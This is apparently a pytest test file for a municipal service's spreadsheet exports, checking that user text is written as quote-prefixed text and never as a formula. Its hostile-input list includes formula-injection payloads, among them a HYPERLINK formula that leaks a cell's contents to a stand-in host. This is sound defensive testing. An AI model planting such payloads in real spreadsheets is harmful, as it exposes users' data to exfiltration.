"""The one spreadsheet writer: text stays text (never a formula), equal figures give equal bytes; and every
workbook the services export, built with a hostile cell."""
from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from services.hours import domain as hours_domain
from services.hours.spreadsheet import RANKING, ranking_rows, ranking_xlsx
from services.intake import domain as intake_domain
from services.intake.spreadsheet import WEEKLY, weekly_figures, weekly_workbook
from services.routing.spreadsheet import LEAGUE_TABLE, league_table_xlsx
from services.routing.stats import department_stats, grid_stats
from shared.auth import Caller
from shared.config import Settings
from shared.reference import Category, Grid
from shared.spreadsheets import Export, workbook_bytes, write, write_row

# What Excel would run, or read as a formula once someone edits the cell, had it been written as typed.
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=A1+1"]
SHANGHAI = ZoneInfo("Asia/Shanghai")


def as_read(typed: str) -> str:
    """`typed` as any XLSX reader gives it back: XML turns a CR into the LF that breaks a line in Excel."""
    return typed.replace("\r", "\n")


def sheets_xml(workbook: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}


def assert_no_formula(workbook: bytes) -> None:
    """No formula (`<f>`) and no error cell (`t="e"`) in any sheet of `workbook`."""
    for name, xml in sheets_xml(workbook).items():
        assert not re.search(rb"<f[\s>/]", xml), name
        assert b't="e"' not in xml, name


def cell_of(workbook: bytes, sheet: str | None, coordinate: str):
    book = load_workbook(io.BytesIO(workbook))
    return (book[sheet] if sheet else book.active)[coordinate]


def assert_text_as_typed(cell, typed: str) -> None:
    """`cell` shows `typed` and stays text when someone edits it (Excel's quote prefix)."""
    assert (cell.value, cell.data_type, cell.quotePrefix) == (as_read(typed), "s", True)


def one_cell(value) -> bytes:
    book = Workbook()
    write(book.active, 1, 1, value)
    return workbook_bytes(book)


# --- the writer -------------------------------------------------------------------------------

@pytest.mark.parametrize("typed", HOSTILE)
def test_text_excel_would_take_for_a_formula_is_quote_prefixed_text_shown_as_typed(typed):
    workbook = one_cell(typed)

    assert_no_formula(workbook)
    assert_text_as_typed(cell_of(workbook, None, "A1"), typed)


@pytest.mark.parametrize("typed", ["#DIV/0!", "#N/A", "#REF!"])
def test_text_that_looks_like_an_error_code_is_text(typed):
    workbook = one_cell(typed)

    assert_no_formula(workbook)
    assert cell_of(workbook, None, "A1").value == typed


@pytest.mark.parametrize("typed", ["路口乱停车", "1+1", "a=b", " =1", "王*明"])
def test_ordinary_text_gets_no_quote_prefix(typed):
    cell = cell_of(one_cell(typed), None, "A1")

    assert cell.value == typed
    assert not cell.quotePrefix


def test_a_line_break_is_written_as_the_lf_excel_reads():
    assert cell_of(one_cell("沂蒙路\r\n金雀山路\r口"), None, "A1").value == "沂蒙路\n金雀山路\n口"


def test_control_characters_xlsx_cannot_hold_are_dropped_before_the_rule_applies():
    book = Workbook()
    write_row(book.active, 1, ["路口\x04乱停\x1b车", "\x04=1"])
    workbook = workbook_bytes(book)

    assert_no_formula(workbook)
    assert cell_of(workbook, None, "A1").value == "路口乱停车"
    assert_text_as_typed(cell_of(workbook, None, "B1"), "=1")


def test_numbers_dates_and_empty_cells_stay_what_they_are():
    book = Workbook()
    write_row(book.active, 1, [3, -2, 1.5, date(2026, 11, 18), datetime(2026, 11, 18, 9, 30), None, True])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active

    assert [cell.value for cell in sheet[1]] == [3, -2, 1.5, datetime(2026, 11, 18), datetime(2026, 11, 18, 9, 30),
                                                 None, True]
    assert [cell.data_type for cell in sheet[1]][:3] == ["n", "n", "n"]
    assert sheet["D1"].is_date


def test_the_same_cells_give_the_same_bytes_and_carry_no_time_of_saving():
    def built() -> bytes:
        book = Workbook()
        write_row(book.active, 1, ["排名", 1, 2.5])
        book.create_sheet("说明")
        return workbook_bytes(book)

    first, second = built(), built()

    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert str(datetime.now(UTC).year).encode() not in archive.read("docProps/core.xml")


# --- the key of an export's figures -----------------------------------------------------------

ONE_ROW = {"rows": [{"rank": 1, "name": "王*明", "hours": 2.5}], "year": 2026}


def test_equal_figures_have_one_key_whatever_their_order():
    export = Export("test.table", layout=1, build=lambda **_: b"")

    assert export.key(ONE_ROW) == export.key({"year": 2026, "rows": [{"hours": 2.5, "name": "王*明", "rank": 1}]})


@pytest.mark.parametrize("other", [
    Export("test.table", layout=2, build=lambda **_: b""),
    Export("test.other", layout=1, build=lambda **_: b""),
])
def test_another_layout_or_kind_has_another_key(other):
    assert other.key(ONE_ROW) != Export("test.table", layout=1, build=lambda **_: b"").key(ONE_ROW)


def test_changed_figures_have_another_key():
    export = Export("test.table", layout=1, build=lambda **_: b"")
    changed = {"rows": [{"rank": 1, "name": "王*明", "hours": 3.0}], "year": 2026}

    assert export.key(changed) != export.key(ONE_ROW)


def test_times_and_zones_are_figures_but_an_arbitrary_object_is_not():
    export = Export("test.table", layout=1, build=lambda **_: b"")
    moment = datetime(2026, 11, 18, tzinfo=UTC)

    assert export.key({"at": moment}) != export.key({"at": moment + timedelta(seconds=1)})
    assert export.key({"zone": SHANGHAI}) == export.key({"zone": ZoneInfo("Asia/Shanghai")})
    with pytest.raises(TypeError):
        export.key({"thing": object()})


def test_how_long_a_built_workbook_is_kept_is_a_setting_of_at_least_a_second():
    assert Settings.from_env("hours", env={}).spreadsheet_cache_s == 3600
    assert Settings.from_env("hours", env={"WOODPECKER_SPREADSHEET_CACHE_S": "600"}).spreadsheet_cache_s == 600
    with pytest.raises(ValueError, match="WOODPECKER_SPREADSHEET_CACHE_S"):
        Settings.from_env("hours", env={"WOODPECKER_SPREADSHEET_CACHE_S": "0"})


# --- each export, with a hostile cell ----------------------------------------------------------

WEEK = intake_domain.Week(2026, 47, SHANGHAI)
GRID = Grid(id="lanshan-01", name="金雀山街道一网格", district="lanshan", district_name="兰山区", leader_id="leader-1",
            geometry={"type": "Polygon", "coordinates": []})
CATEGORIES = {"env.garbage": Category(code="env.garbage", name_zh="环境脏乱差", name_en="Garbage",
                                      department="sanitation", deadline_hours=24, urgent=False)}


def weekly_report(description: str, address: str) -> dict:
    return {"id": "r1", "reporter_id": "volunteer-1", "category": "env.garbage", "description": description,
            "location": {"lat": 35.06, "lng": 118.315, "address": address}, "photo_ids": ["p1"],
            "submitted_at": WEEK.start + timedelta(days=1), "status": intake_domain.SUBMITTED, "case_id": None,
            "closed_at": None}


@pytest.mark.parametrize("typed", HOSTILE)
def test_weekly_grid_workbook_holds_a_hostile_description_and_address_as_typed(typed):
    summary = intake_domain.weekly_summary(GRID, WEEK, [weekly_report(typed, typed)], CATEGORIES)
    workbook = WEEKLY.build(**weekly_figures(summary, CATEGORIES, SHANGHAI))

    assert_no_formula(workbook)
    for sheet in ("本周上报明细", "未办结问题"):
        assert_text_as_typed(cell_of(workbook, sheet, "E2"), typed)  # 问题描述
        assert_text_as_typed(cell_of(workbook, sheet, "F2"), typed)  # 地址


def test_weekly_grid_workbook_keeps_its_figures_as_numbers():
    summary = intake_domain.weekly_summary(GRID, WEEK, [weekly_report("垃圾堆放", "沂蒙路")], CATEGORIES)
    workbook = weekly_workbook(**weekly_figures(summary, CATEGORIES, SHANGHAI))

    book = load_workbook(io.BytesIO(workbook))
    assert [cell.value for cell in book["汇总"][6]][:3] == ["环境脏乱差", 1, 1]
    assert [cell.value for cell in book["汇总"][7]][:2] == ["合计", 1]
    detail = [cell.value for cell in book["本周上报明细"][2]]
    assert detail[:3] == [1, "r1", "2026-11-17 00:00"] and detail[6:8] == [35.06, 118.315]


VOLUNTEER = Caller(id="volunteer-1", role="volunteer")


@pytest.mark.parametrize("typed", HOSTILE)
def test_rankings_workbook_holds_a_hostile_organization_and_masked_name_as_typed(typed):
    ranked = {"rank": 1, "name": typed, "volunteer_id": "v1", "organization": typed, "grid_id": "lanshan-01",
              "centihours": 1250, "verified_reports": 3}
    shown = [hours_domain.ranking_row(ranked, VOLUNTEER)]
    workbook = ranking_xlsx(ranking_rows(shown, {"lanshan-01": "金雀山街道一网格"}), 2026, "hours", typed)

    assert_no_formula(workbook)
    assert_text_as_typed(cell_of(workbook, None, "B4"), hours_domain.mask_name(typed))
    assert_text_as_typed(cell_of(workbook, None, "C4"), typed)
    assert (cell_of(workbook, None, "A4").value, cell_of(workbook, None, "E4").value) == (1, 12.5)


def test_a_name_masked_into_what_looks_like_a_formula_stays_text():
    shown = [hours_domain.ranking_row({"rank": 1, "name": "=A1+1", "volunteer_id": "v1", "organization": "红马甲",
                                       "grid_id": "lanshan-01", "centihours": 100}, VOLUNTEER)]
    workbook = RANKING.build(rows=ranking_rows(shown, {}), year=2026, by="hours", scope_text="全市")

    assert_no_formula(workbook)
    assert_text_as_typed(cell_of(workbook, None, "B4"), "=***1")


START, END = datetime(2026, 10, 31, 16, tzinfo=UTC), datetime(2026, 11, 30, 16, tzinfo=UTC)


@pytest.mark.parametrize("typed", HOSTILE)
@pytest.mark.parametrize("kind, stats", [("department", department_stats), ("grid", grid_stats)])
def test_league_tables_hold_a_hostile_name_title_and_period_as_typed(typed, kind, stats):
    rows = stats([], {"somewhere": typed}, START, END, END)
    workbook = LEAGUE_TABLE.build(rows=rows, title=typed, period_text=typed, kind=kind)

    assert_no_formula(workbook)
    assert_text_as_typed(cell_of(workbook, "排名通报", "A1"), typed)
    assert_text_as_typed(cell_of(workbook, "排名通报", "B5"), typed)
    assert league_table_xlsx(rows, typed, typed, kind) == workbook
